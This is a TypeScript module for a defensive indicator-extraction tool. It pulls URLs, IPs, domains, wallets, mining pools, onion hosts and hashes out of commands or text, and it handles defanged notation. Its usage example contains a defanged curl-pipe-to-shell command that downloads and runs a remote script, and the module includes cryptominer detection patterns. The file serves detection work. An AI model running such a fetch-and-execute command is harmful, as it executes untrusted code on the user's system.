// Indicator extraction: URLs, domains, IPs, images, wallets, pools, onion hosts and hashes out of commands or
// free text, defang-aware, deduplicated, careful with version strings. Never resolves or fetches anything.
import ipaddr from 'ipaddr.js';
import { MINER_PORTS, WALLET_PATTERNS, isPoolHost, looksLikePoolHost } from '../knowledge/miners.js';
import type { ShellCommand } from '../shell/split.js';
import { parseDockerCli } from '../shell/docker-cli.js';
import { isMinerCommand } from './miner-args.js';

export type IndicatorType = 'url' | 'domain' | 'ipv4' | 'ipv6' | 'image' | 'wallet' | 'pool' | 'onion' | 'hash';

export interface Indicator {
  readonly type: IndicatorType;
  readonly value: string;
  /** A short snippet around the match, or what the value was found in. */
  readonly context: string;
  /** Field path when known (e.g. `Config.Cmd[2]`). */
  readonly location?: string;
  /** Wallet coin (xmr, xmr-integrated, dero, btc, eth) or hash kind (md5, sha1, sha256). */
  readonly kind?: string;
}

export interface ExtractOptions {
  /** Treat host:port pairs with pool ports as pools (the text is a miner's command line or config). */
  readonly minerContext?: boolean;
  readonly location?: string;
}

/** Undo common defanging: hxxp, [.], (.), {.}, [dot], [:], [://]. */
export function refang(s: string): string {
  return s.replace(/\bhxxp(s?):\/\//gi, 'http$1://').replace(/\bfxp:\/\//gi, 'ftp://')
    .replace(/\[(?:\.|dot)\]|\((?:\.|dot)\)|\{(?:\.|dot)\}/gi, '.').replace(/\[:\]/g, ':').replace(/\[:\/\/\]/g, '://');
}

const TLDS = new Set(('com net org io ru cn xyz top info biz me co uk de fr nl su tk ml ga cf gq pw cc ws us eu online site ' +
  'club app dev cloud invalid example test onion local tech space live pro vip icu shop store fun link work click host ' +
  'website stream network ca jp kr br it es ch se fi au tw hk sg vn ir tr ua by kz ro cz hu be dk gr pt ie za mx ar ' +
  'cl nz lt lv ee gov edu mil int name mobi asia tv im ly gg to nu am fm today world zone email run').split(' '));

const URL_RE = /\b((?:https?|ftp|tftp|tcp|udp|ssl|tls|stratum\d?\+(?:tcp|ssl|tls|udp)|stratum|socks[45]h?|wss?):\/\/[^\s'"<>|;`(){}\\]+)/gi;
const ONION_RE = /\b([a-z2-7]{16,56}\.onion)\b/gi;
const HOSTPORT_RE = /(?<![\w@.-])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}|\d{1,3}(?:\.\d{1,3}){3}):(\d{2,5})(?![\w.])/gi;
const IPV4_RE = /(?<![\w.:/-])(\d{1,3}(?:\.\d{1,3}){3})(?![\w-]|\.\d)/g;
const IPV6_RE = /(?<![\w:.])((?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4})(?![\w:.])/gi;
const DOMAIN_RE = /(?<![\w@./-])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+([a-z]{2,24}))(?![\w-]|\.[a-z0-9])/gi;
const HASH_RE = /(?<![0-9a-fA-FxX])([0-9a-fA-F]{64}|[0-9a-fA-F]{40}|[0-9a-fA-F]{32})(?![0-9a-zA-Z])/g;

export function isIPv4(s: string): boolean {
  const parts = s.split('.');
  return parts.length === 4 && parts.every((p) => /^(?:0|[1-9]\d{0,2})$/.test(p) && Number(p) <= 255);
}

function blank(text: string, start: number, len: number): string {
  return text.slice(0, start) + ' '.repeat(len) + text.slice(start + len);
}

function snippet(text: string, start: number, len: number): string {
  const a = Math.max(0, start - 30);
  const b = Math.min(text.length, start + len + 30);
  return `${a > 0 ? '…' : ''}${text.slice(a, b).replace(/\s+/g, ' ').trim()}${b < text.length ? '…' : ''}`;
}

class Collector {
  readonly out: Indicator[] = [];
  private readonly seen = new Set<string>();
  constructor(private readonly location?: string) {}
  add(type: IndicatorType, value: string, context: string, kind?: string): void {
    const v = type === 'domain' || type === 'onion' || type === 'hash' || type === 'ipv6' ? value.toLowerCase() : value;
    const key = `${type}\0${v}`;
    if (this.seen.has(key)) return;
    this.seen.add(key);
    this.out.push({ type, value: v, context, ...(this.location ? { location: this.location } : {}), ...(kind ? { kind } : {}) });
  }
  host(host: string, context: string): void {
    const h = host.replace(/^\[|\]$/g, '');
    if (isIPv4(h)) this.add('ipv4', h, context);
    else if (ipaddr.IPv6.isValid(h)) this.add('ipv6', h, context);
    else if (/\.onion$/i.test(h)) this.add('onion', h, context);
    else if (/^[a-z0-9.-]+\.[a-z]{2,}$/i.test(h)) this.add('domain', h, context);
  }
}

function scanText(raw: string, c: Collector, opts: ExtractOptions): void {
  let text = refang(raw);
  for (const m of text.matchAll(URL_RE)) {
    const url = (m[1] as string).replace(/[.,]+$/, '');
    const ctx = snippet(text, m.index ?? 0, url.length);
    const auth = /^[a-z0-9+]+:\/\/(?:[^@/]*@)?(\[[^\]]+\]|[^/:?#]+)(?::(\d+))?/i.exec(url);
    if (/^stratum/i.test(url)) c.add('pool', url, ctx);
    else c.add('url', url, ctx);
    if (auth) {
      c.host(auth[1] as string, url);
      const port = auth[2] ? Number(auth[2]) : undefined;
      if (!/^stratum/i.test(url) && port !== undefined && isPoolHost(auth[1] as string)) c.add('pool', `${auth[1]}:${port}`, url);
    }
  }
  text = text.replace(URL_RE, (s) => ' '.repeat(s.length));
  for (const { coin, re } of WALLET_PATTERNS) {
    for (const m of text.matchAll(re)) {
      c.add('wallet', m[0], snippet(text, m.index ?? 0, m[0].length), coin);
      text = blank(text, m.index ?? 0, m[0].length);
    }
  }
  for (const m of text.matchAll(ONION_RE)) c.add('onion', m[1] as string, snippet(text, m.index ?? 0, m[0].length));
  text = text.replace(ONION_RE, (s) => ' '.repeat(s.length));
  for (const m of text.matchAll(HOSTPORT_RE)) {
    const host = m[1] as string;
    const port = Number(m[2]);
    if (/^\d/.test(host) && !isIPv4(host)) continue;
    if (!/^\d/.test(host) && !TLDS.has(host.split('.').pop()!.toLowerCase())) continue;
    const ctx = snippet(text, m.index ?? 0, m[0].length);
    if (isPoolHost(host) || (MINER_PORTS.has(port) && (opts.minerContext || looksLikePoolHost(host)))) {
      c.add('pool', `${host.toLowerCase()}:${port}`, ctx);
    }
  }
  for (const m of text.matchAll(IPV4_RE)) {
    const ip = m[1] as string;
    const before = text.slice(Math.max(0, (m.index ?? 0) - 12), m.index ?? 0);
    if (!isIPv4(ip) || ip === '0.0.0.0' || ip === '255.255.255.255') continue;
    if (/(?:version|ver|release|tag|v)[=\s:]*$/i.test(before)) continue;
    c.add('ipv4', ip, snippet(text, m.index ?? 0, ip.length));
  }
  for (const m of text.matchAll(IPV6_RE)) {
    const v = m[1] as string;
    if (v === '::' || !(v.includes('::') || v.split(':').length === 8) || !/[0-9a-f]/i.test(v)) continue;
    if (ipaddr.IPv6.isValid(v)) c.add('ipv6', v, snippet(text, m.index ?? 0, v.length));
  }
  for (const m of text.matchAll(DOMAIN_RE)) {
    const d = m[1] as string;
    if (!TLDS.has((m[2] as string).toLowerCase()) || /^\d+(\.\d+)+$/.test(d)) continue;
    c.add('domain', d, snippet(text, m.index ?? 0, d.length));
  }
  for (const m of text.matchAll(HASH_RE)) {
    const h = m[1] as string;
    if (!/[a-f]/i.test(h) || !/\d/.test(h)) continue;
    c.add('hash', h, snippet(text, m.index ?? 0, h.length), h.length === 32 ? 'md5' : h.length === 40 ? 'sha1' : 'sha256');
  }
}

/** Image named by a `docker run|create|pull` command, if any. */
export function imageOfDockerCommand(argv: readonly string[]): string | undefined {
  return parseDockerCli(argv)?.image;
}

/**
 * Indicators in free text, a list of located texts, or split commands (pools use each command's miner context).
 * @example extractIndicators('curl -s hxxp://198.51.100[.]7/x.sh | sh') // url, ipv4
 */
export function extractIndicators(input: string | readonly ShellCommand[] | readonly { text: string; location?: string }[],
  opts: ExtractOptions = {}): Indicator[] {
  const all: Indicator[] = [];
  const seen = new Set<string>();
  const merge = (list: Indicator[]) => {
    for (const i of list) { const k = `${i.type}\0${i.value}`; if (!seen.has(k)) { seen.add(k); all.push(i); } }
  };
  if (typeof input === 'string') {
    const c = new Collector(opts.location);
    scanText(input, c, opts);
    return c.out;
  }
  for (const item of input) {
    if ('argv' in item) {
      const cmd = item as ShellCommand;
      const c = new Collector(cmd.source);
      const text = [...cmd.assignments, ...cmd.argv, ...cmd.redirects.map((r) => r.body ?? r.target)].join(' ');
      const miner = opts.minerContext || isMinerCommand(cmd.argv);
      scanText(text, c, { ...opts, minerContext: miner });
      // A miner's -o/--url is its pool whatever the port (TLS pools listen on 443).
      if (miner) {
        cmd.argv.forEach((w, k) => {
          const v = w === '-o' || w === '--url' ? cmd.argv[k + 1] : w.startsWith('--url=') ? w.slice(6) : undefined;
          if (v && /^[\w.+-]+(?::\/\/)?[\w.-]+:\d{1,5}$/.test(v)) c.add('pool', v.toLowerCase(), cmd.argv.join(' ').slice(0, 120));
        });
      }
      const img = imageOfDockerCommand(cmd.argv);
      if (img) c.add('image', img, cmd.argv.join(' ').slice(0, 120));
      merge(c.out);
    } else {
      const t = item as { text: string; location?: string };
      const c = new Collector(t.location ?? opts.location);
      scanText(t.text, c, opts);
      merge(c.out);
    }
  }
  return all;
}
